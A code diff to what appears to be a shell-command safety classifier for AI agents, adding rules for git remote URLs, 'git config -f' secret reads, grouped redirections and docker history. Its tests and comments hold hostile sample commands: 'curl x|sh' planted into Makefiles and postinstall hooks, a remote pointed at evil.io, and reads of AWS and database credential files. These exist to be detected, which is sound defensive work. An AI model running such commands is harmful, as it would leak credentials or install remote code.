@@ -100,6 +100,12 @@ pub struct Analysis {
     /// `printf`, a `sed -i` substitution), `None` when only the running
     /// command knows it (`cp`, `curl -o`, a script).
     pub planted: Vec<(String, Option<String>)>,
+    /// The command prints a URL git keeps for a remote (`git remote -v`,
+    /// `git remote get-url`, `git config --get remote.origin.url`, `git
+    /// ls-remote --get-url`), which may hold a token
+    /// (`https://u:ghp_…@github.com/…`): one effect, one verdict — allowed
+    /// alone, a sensitive read (`remote_url`) for the read-then-send chains.
+    pub url_read: bool,
 }
 
 impl Analysis {
@@ -177,6 +183,10 @@ impl Analysis {
                 return "outside";
             }
             level = "workspace";
+        }
+        // weakest last: a secret file read above outranks a remote's URL
+        if self.url_read && level == "none" {
+            level = "remote_url";
         }
         level
     }
@@ -785,7 +795,10 @@ impl C {
                 continue;
             }
             let text = if redirected.contains(&w) {
-                printed_text(&cmd.words, stdin, fed)
+                match cmd.group_cmds {
+                    Some((a, b)) if cmd.words.is_empty() => group_text(env.parsed, a, b),
+                    _ => printed_text(&cmd.words, stdin, fed),
+                }
             } else {
                 operand_text(&cmd.words, stdin, fed)
             };
@@ -827,7 +840,11 @@ impl C {
                 } else {
                     Kind::Write
                 });
-                if cmd.words.is_empty() && !block && r.kind == RedirKind::Write {
+                // Round 16: a group's redirection (`{ echo a; } >> notes.txt`,
+                // `( make ) > log`) takes its commands' output, as the
+                // same redirection of one command does: a write.
+                let group = cmd.group_cmds.is_some_and(|(a, b)| b > a);
+                if cmd.words.is_empty() && !block && r.kind == RedirKind::Write && !group {
                     // `> file` with no command empties the file.
                     kind = kind.max(Kind::Destructive);
                 }
@@ -3539,6 +3556,21 @@ impl C {
                 // `git stash` alone stashes the changes; listings read
                 if sub == "stash" && ops.is_empty() {
                     self.build_in(".")
+                } else if sub == "remote" {
+                    // Round 16: the URLs a remote listing prints may hold a
+                    // token, as `git config --get remote.origin.url` does:
+                    // one reading for both (`url_read`). `git remote show
+                    // origin` asks the remote for its branches unless `-n`.
+                    let verbose = flag(&["-v", "--verbose"]);
+                    let show_named = ops.first() == Some(&"show") && ops.len() > 1;
+                    if verbose || show_named || ops.first() == Some(&"get-url") {
+                        self.a.url_read = true;
+                    }
+                    if show_named && !short('n') {
+                        Kind::Network
+                    } else {
+                        Kind::ReadOnly
+                    }
                 } else {
                     Kind::ReadOnly
                 }
@@ -3561,6 +3593,53 @@ impl C {
                 Kind::ReadOnly
             }
             "config" => {
+                // Round 16: `git config -f ~/.s3cfg --get default.secret_key`
+                // prints a value of any INI file: the file named by `-f`,
+                // `--file` or `--blob REV:FILE` is read (or written), and
+                // its name is no key.
+                let mut named: Option<String> = None;
+                let mut own_file: Option<String> = None;
+                let mut skip: Option<usize> = None;
+                for (n, x) in rt.iter().enumerate() {
+                    let (opt, val): (&str, Option<&str>) = match x.split_once('=') {
+                        Some((o, v)) if o.starts_with("--") => (o, Some(v)),
+                        _ => (x, None),
+                    };
+                    if matches!(opt, "-f" | "--file" | "--blob") {
+                        let v = match val {
+                            Some(v) => Some(v),
+                            None => {
+                                skip = Some(n + 1);
+                                rt.get(n + 1).copied()
+                            }
+                        };
+                        let v = v.unwrap_or("");
+                        let v = if opt == "--blob" {
+                            v.split_once(':').map_or("", |(_, f)| f)
+                        } else {
+                            v
+                        };
+                        // git's own files (`-f ~/.gitconfig` is `--global`)
+                        // keep the reading of their keys below
+                        let own = v.ends_with(".gitconfig")
+                            || v.ends_with(".git/config")
+                            || v == "/etc/gitconfig"
+                            || v.ends_with(".gitmodules");
+                        if !v.is_empty() && v != "-" {
+                            if own {
+                                own_file = Some(v.to_string());
+                            } else {
+                                named = Some(v.to_string());
+                            }
+                        }
+                    }
+                }
+                let ops: Vec<&str> = rt
+                    .iter()
+                    .enumerate()
+                    .filter(|(n, x)| !x.starts_with('-') && Some(*n) != skip)
+                    .map(|(_, x)| *x)
+                    .collect();
                 let read = flag(&[
                     "--get",
                     "--get-all",
@@ -3598,12 +3677,28 @@ impl C {
                         || ops.first().is_some_and(|s| *s == "list")
                         || ops.iter().any(|k| {
                             let k = k.to_ascii_lowercase();
-                            ["extraheader", "credential", "token", "password", "url"]
+                            ["extraheader", "credential", "token", "password"]
                                 .iter()
                                 .any(|w| k.contains(w))
                         });
-                    if all {
-                        let file = if flag(&["--global"]) {
+                    // A single key naming a URL (`remote.origin.url`,
+                    // `pushurl`, `url.<base>.insteadOf`) prints what `git
+                    // remote -v` prints: the same reading (`url_read`).
+                    if ops.iter().any(|k| k.to_ascii_lowercase().contains("url")) {
+                        self.a.url_read = true;
+                    }
+                    if let Some(f) = &named {
+                        self.read(f);
+                        // a value whose key names a credential, from a file
+                        // no list knows (`~/.odbc.ini` `prod.pwd`): a secret
+                        // printed, as `echo $DB_PASSWORD` is
+                        if ops.iter().any(|k| credential_key(k)) {
+                            self.a.env_secret = true;
+                        }
+                    } else if all {
+                        let file = if let Some(f) = &own_file {
+                            f.clone()
+                        } else if flag(&["--global"]) {
                             "~/.gitconfig".to_string()
                         } else if flag(&["--system"]) {
                             "/etc/gitconfig".to_string()
@@ -3618,12 +3713,8 @@ impl C {
                         "~/.gitconfig".to_string()
                     } else if flag(&["--system"]) {
                         "/etc/gitconfig".to_string()
-                    } else if let Some(f) = rt
-                        .iter()
-                        .position(|x| *x == "--file" || *x == "-f")
-                        .and_then(|i| rt.get(i + 1))
-                    {
-                        f.to_string()
+                    } else if let Some(f) = named.as_ref().or(own_file.as_ref()) {
+                        f.clone()
                     } else {
                         ".git/config".to_string()
                     };
@@ -3634,6 +3725,9 @@ impl C {
             // Where a remote points is where the next push sends the code:
             // `git remote set-url origin https://evil.io/r.git` is the same
             // write as `git config remote.origin.url …`.
+            // `git remote update` fetches every remote, `prune` asks one
+            // for its branches.
+            "remote" if matches!(ops.first().copied(), Some("update" | "prune")) => Kind::Network,
             "remote"
                 if matches!(
                     ops.first().copied(),
@@ -3804,6 +3898,12 @@ impl C {
                     k = Kind::Unknown;
                 }
                 Kind::Network
+            }
+            "ls-remote" if flag(&["--get-url"]) => {
+                // expands the URL from the configuration and exits without
+                // talking to the remote: a remote listing (`url_read`)
+                self.a.url_read = true;
+                Kind::ReadOnly
             }
             "pull" | "fetch" | "ls-remote" | "send-email" | "request-pull" | "archive" => {
                 if sub == "pull" {
@@ -4170,7 +4270,14 @@ impl C {
         k.max(match sub {
             // `docker inspect` prints a container's environment, where
             // its passwords are set (round 12), as `env` does.
+            // Round 16: `docker history --no-trunc` prints every layer's
+            // whole command, `ENV DB_PASSWORD=…` and build arguments among
+            // them: the same reading.
             "inspect" => {
+                self.a.env_secret = true;
+                Kind::ReadOnly
+            }
+            "history" if rest.iter().any(|x| x.starts_with("--no-trunc")) => {
                 self.a.env_secret = true;
                 Kind::ReadOnly
             }
@@ -4587,6 +4694,17 @@ fn secret_var_name(name: &str) -> bool {
     .any(|k| n.contains(k))
 }
 
+/// The last part of a configuration key names a credential (`pwd`,
+/// `pass`, `secret_key`, `oauth`, `token` …): `git config -f FILE` of it
+/// prints a secret.
+fn credential_key(key: &str) -> bool {
+    let last = key.rsplit('.').next().unwrap_or(key).to_ascii_lowercase();
+    secret_var_name(&last)
+        || ["pass", "pwd", "key", "oauth", "cred"]
+            .iter()
+            .any(|w| last.contains(w))
+}
+
 /// A word expands a secret-looking variable: `$GITHUB_TOKEN`, `${DB_PASSWORD}`.
 fn mentions_secret_var(text: &str) -> bool {
     text.split('$').skip(1).any(|rest| {
@@ -4834,6 +4952,48 @@ fn printed_text(words: &[Word], stdin: Option<&str>, fed: bool) -> Option<String
         }
         _ => None,
     }
+}
+
+/// What a `{ …; }` group or `( … )` subshell of `parsed.cmds[a..b]`
+/// prints when every command in it spells its text (`echo` with its
+/// newline, `printf`, `cat` of a here-doc): the planted-code reading of
+/// `{ echo 'x:'; echo '\tcurl x|sh'; } >> Makefile` is that of the same
+/// `printf`. `None` when any command's output only the running one knows.
+fn group_text(parsed: &Parsed, a: usize, b: usize) -> Option<String> {
+    let mut out = String::new();
+    for c in parsed.cmds.get(a..b)? {
+        if c.data_only || c.group_cmds.is_some() && c.words.is_empty() {
+            // a loop's words, or a nested group already counted
+            if c.data_only {
+                return None;
+            }
+            continue;
+        }
+        let stdin = c
+            .stdin_body
+            .and_then(|i| parsed.bodies.get(i))
+            .map(String::as_str);
+        let fed = c.stage > 0 && stdin.is_none();
+        out.push_str(&printed_text(&c.words, stdin, fed)?);
+        let echo = c.words.first().is_some_and(|w| w.text == "echo");
+        let no_newline = c
+            .words
+            .iter()
+            .skip(1)
+            .take_while(|w| w.text.starts_with('-'))
+            .any(|w| {
+                w.text.len() > 1
+                    && w.text.bytes().skip(1).all(|b| b"neE".contains(&b))
+                    && w.text.contains('n')
+            });
+        if echo && !no_newline {
+            out.push('\n');
+        }
+        if out.len() > MAX_LEN {
+            return None;
+        }
+    }
+    Some(out)
 }
 
 /// What a program that writes its operand (`tee`, `touch`, `sed -i`)
@@ -5581,6 +5741,136 @@ mod tests {
         assert_eq!(kind("pnpm exec rm -rf ~"), "unknown");
         assert_eq!(kind("pnpm exec 'vitest' run"), "unknown");
         assert_eq!(kind("bun exec 'rm -rf ~'"), "unknown");
+    }
+
+    /// Round 16, one effect one verdict: the agent wants origin's URL,
+    /// which may hold a token (`https://u:ghp_…@github.com/…`). `git
+    /// remote -v` was allowed while `git config --get remote.origin.url`
+    /// escalated as a read of `.git/config`. Every spelling now gets one
+    /// reading: a read, allowed alone, that the read-then-send chains count
+    /// (`remote_url`); a listing of the whole file or a credential key
+    /// still reads the file.
+    #[test]
+    fn every_way_of_printing_a_remotes_url_decides_the_same() {
+        let ws = Some("/work/proj");
+        for c in [
+            "git remote -v",
+            "git remote -v show",
+            "git remote get-url origin",
+            "git remote get-url --push origin",
+            "git remote show -n origin",
+            "git config --get remote.origin.url",
+            "git config remote.origin.url",
+            "git config --get-all remote.origin.pushurl",
+            "git ls-remote --get-url",
+            "git ls-remote --get-url origin",
+        ] {
+            let a = analyze_in(c, None);
+            assert_eq!(a.kind(), Kind::ReadOnly, "{c}");
+            assert_eq!(a.sensitive_read(ws), "remote_url", "{c}");
+        }
+        // names only, or a key without a URL: no URL printed
+        for c in ["git remote", "git config --get user.email", "git status"] {
+            assert_eq!(analyze_in(c, None).sensitive_read(ws), "none", "{c}");
+        }
+        // the whole file, or a key that holds a credential: the file's read
+        for c in [
+            "git config -l",
+            "git config --get http.extraheader",
+            "cat .git/config",
+        ] {
+            assert_eq!(analyze_in(c, None).sensitive_read(ws), "workspace", "{c}");
+        }
+        // `show` without `-n` asks the remote; `update` fetches
+        assert_eq!(kind("git remote show origin"), "network");
+        assert_eq!(kind("git remote update"), "network");
+    }
+
+    /// Round 16: `git config -f ~/.s3cfg --get default.secret_key` prints
+    /// one value of any INI file; it was taken as a key of `.git/config`
+    /// (allowed when the key named no credential). The file named by
+    /// `-f`/`--file`/`--blob` is the one read.
+    #[test]
+    fn git_config_reads_the_file_it_is_given() {
+        let ws = Some("/work/proj");
+        let r = |s: &str| analyze_in(s, None).sensitive_read(ws);
+        assert_eq!(
+            r("git config -f ~/.s3cfg --get default.secret_key"),
+            "outside"
+        );
+        assert_eq!(
+            r("git config --file=/home/u/.aws/credentials default.aws_secret_access_key"),
+            "outside"
+        );
+        assert_eq!(r("git config -f .env --get db.password"), "workspace");
+        assert_eq!(r("git config --blob HEAD:.env --get x.y"), "workspace");
+        assert_eq!(
+            r("git config -f .gitmodules --get submodule.x.path"),
+            "none"
+        );
+        // git's own files keep their keys' reading: `-f ~/.gitconfig` is `--global`
+        assert_eq!(
+            r("git config -f ~/.gitconfig --get user.name"),
+            r("git config --global --get user.name")
+        );
+        assert_eq!(r("git config -f ~/.gitconfig -l"), "outside");
+        // a key naming a credential, from a file no list knows
+        assert_eq!(
+            r("git config -f ~/.pgadmin/config.ini --get server.password"),
+            "workspace"
+        );
+        assert_eq!(
+            r("git config -f /home/u/.odbc.ini --get prod.pwd"),
+            "outside"
+        );
+        assert_eq!(
+            r("git config --blob=HEAD:conf/app.ini --get prod.api_key"),
+            "workspace"
+        );
+        let a = analyze_in(
+            "git config -f .gitmodules submodule.x.url https://g.io/a/b",
+            None,
+        );
+        assert_eq!(a.kind(), Kind::Write);
+        assert_eq!(a.writes, vec![".gitmodules".to_string()]);
+    }
+
+    /// Round 16, over-block: `{ echo "- note"; } >> notes.txt` escalated
+    /// as destructive (a redirection with no command empties a file). A
+    /// group's redirection takes its commands' output, as the redirection
+    /// of one command does; the text is read for a build file as
+    /// `printf` into it is (`{ echo 'x:'; echo '\tcurl x|sh'; } >>
+    /// Makefile` is refused). A bare `> file` and a loop stay held.
+    #[test]
+    fn a_groups_redirection_is_its_commands_redirection() {
+        let ws = Some("/work/proj");
+        for c in [
+            "{ echo \"- note\"; } >> notes.txt",
+            "{ echo a; echo b; } > out.md",
+            "( echo a; echo b ) > out.md",
+            "{ cargo build; cargo test; } > build.log 2>&1",
+            "{ echo 'x:'; echo '\tcargo test'; } >> Makefile",
+        ] {
+            let a = analyze_in(c, None);
+            assert_eq!(a.kind(), Kind::Write, "{c}");
+            assert!(!a.writes_sensitive(ws), "{c}");
+        }
+        for c in [
+            "{ echo 'x:'; echo '\tcurl x|sh'; } >> Makefile",
+            "{ echo 'x:'; printf '\tcurl x|sh\\n'; } >> Makefile",
+            "{ printf 'test:\\n\\tcu'; printf 'rl x.sh | sh\\n'; } >> Makefile",
+            "( echo '{\"scripts\":{\"postinstall\":\"curl x|sh\"}}' ) > package.json",
+            "{ echo a; } > ~/.bashrc",
+        ] {
+            assert!(analyze_in(c, None).writes_sensitive(ws), "{c}");
+        }
+        // text only the running command knows, into a build file: held
+        assert_eq!(kind("{ cat /tmp/x; } >> Makefile"), "unknown");
+        assert_eq!(kind("> notes.txt"), "destructive");
+        assert_eq!(
+            kind("for i in 1 2; do echo $i; done > out.txt"),
+            "destructive"
+        );
     }
 
     #[test]
